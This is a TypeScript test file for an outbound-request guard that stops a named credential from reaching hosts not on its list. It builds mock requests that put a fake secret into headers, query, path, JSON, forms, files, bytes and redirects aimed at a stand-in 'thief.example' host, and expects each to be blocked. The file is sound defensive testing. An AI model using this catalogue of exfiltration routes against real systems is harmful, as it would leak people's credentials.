// @defends credential-other-host
import { Buffer } from 'node:buffer'
import { describe, expect, it } from 'vitest'
import { createEgress } from './egress.ts'
import { fakeNetwork, redirectTo } from './testing/fake-network.ts'

const SECRET = 'sk-very/secret+key=1'
const OWN = 'https://api.example.com/v1'
const THIEF = 'https://thief.example/v1'

function guarded(
  answers: Parameters<typeof fakeNetwork>[0] = {},
  limit = { hosts: ['api.example.com'] as string[] | undefined },
) {
  const ok = () => new Response('ok')
  const network = fakeNetwork({ [OWN]: ok, [THIEF]: ok, ...answers })
  const egress = createEgress({ allowPrivateHosts: [], network: network.fetch })
  egress.guard({ name: 'Team key', texts: [SECRET], ...limit })
  return { egress, seen: network.seen }
}

const base64 = (text: string) => Buffer.from(text).toString('base64')
const form = new URLSearchParams({ client_secret: SECRET })
const multipart = new FormData()
multipart.set('key', new Blob([SECRET]), 'key.txt')

/** Every place of a request, by how components write secrets there. */
const places: [string, string, RequestInit][] = [
  ['a bearer token', THIEF, { headers: { authorization: `Bearer ${SECRET}` } }],
  ['a header of its own', THIEF, { headers: { 'api-key': SECRET } }],
  ['Basic authentication', THIEF, { headers: { authorization: `Basic ${base64(`me:${SECRET}`)}` } }],
  [
    'Basic authentication of form-encoded parts',
    THIEF,
    { headers: { authorization: `basic ${base64(`me:${form}`)}` } },
  ],
  ['the query', `${THIEF}?key=${encodeURIComponent(SECRET)}`, {}],
  ['the path', `${THIEF}/${encodeURIComponent(SECRET)}`, {}],
  ['JSON', THIEF, { method: 'POST', body: JSON.stringify({ api_key: SECRET }) }],
  ['JSON within JSON', THIEF, { method: 'POST', body: JSON.stringify({ text: JSON.stringify({ key: SECRET }) }) }],
  ['a form', THIEF, { method: 'POST', body: form }],
  ['a form with files', THIEF, { method: 'POST', body: multipart }],
  ['bytes', THIEF, { method: 'PUT', body: new TextEncoder().encode(SECRET) }],
]

describe('a secret', () => {
  it.each(places)('goes to no other host in %s', async (_, address, init) => {
    const { egress, seen } = guarded()
    await expect(egress.fetch(address, init)).rejects.toThrow(
      'The credential “Team key” may not be sent to thief.example. If this host should get it, open Credentials and add it to the credential’s hosts.',
    )
    expect(seen).toEqual([])
  })

  it('goes to its own hosts, and other requests go anywhere', async () => {
    const { egress } = guarded()
    expect((await egress.fetch(OWN, { headers: { authorization: `Bearer ${SECRET}` } })).status).toBe(200)
    expect((await egress.fetch(THIEF, { headers: { authorization: 'Bearer another one' } })).status).toBe(200)
  })

  it.each([301, 302, 303, 307, 308])('does not follow a %d to another host', async (status) => {
    const { egress, seen } = guarded({ [OWN]: redirectTo(THIEF, status) })
    const headers = { authorization: `Bearer ${SECRET}` }
    const keepsBody = status >= 307
    const sent = egress.fetch(OWN, { method: 'POST', headers, body: SECRET })
    if (keepsBody) await expect(sent).rejects.toThrow('may not be sent to thief.example')
    else await sent
    expect(JSON.stringify(seen.filter(({ url }) => url === THIEF))).not.toContain(SECRET)
  })

  it('is not put into the address of another host by a redirect', async () => {
    const { egress, seen } = guarded({ [OWN]: redirectTo(`${THIEF}?back=${encodeURIComponent(SECRET)}`) })
    await expect(egress.fetch(OWN)).rejects.toThrow('may not be sent to thief.example')
    expect(seen).toHaveLength(1)
  })

  it('of a credential without a list goes anywhere', async () => {
    const { egress } = guarded({}, { hosts: undefined })
    expect((await egress.fetch(THIEF, { headers: { 'api-key': SECRET } })).status).toBe(200)
  })

  it('that several credentials hold goes where one of them may', async () => {
    const { egress } = guarded()
    egress.guard({ name: 'Gateway', texts: [SECRET], hosts: ['thief.example'] })
    expect((await egress.fetch(THIEF, { headers: { 'api-key': SECRET } })).status).toBe(200)
    await expect(egress.fetch('https://third.example', { headers: { 'api-key': SECRET } })).rejects.toThrow(
      'may not be sent to third.example',
    )
  })

  it('of a few letters is not looked for, since it occurs everywhere', async () => {
    const { egress } = guarded()
    egress.guard({ name: 'Short', texts: ['json'], hosts: [] })
    expect((await egress.fetch(THIEF, { headers: { accept: 'application/json' } })).status).toBe(200)
  })
})
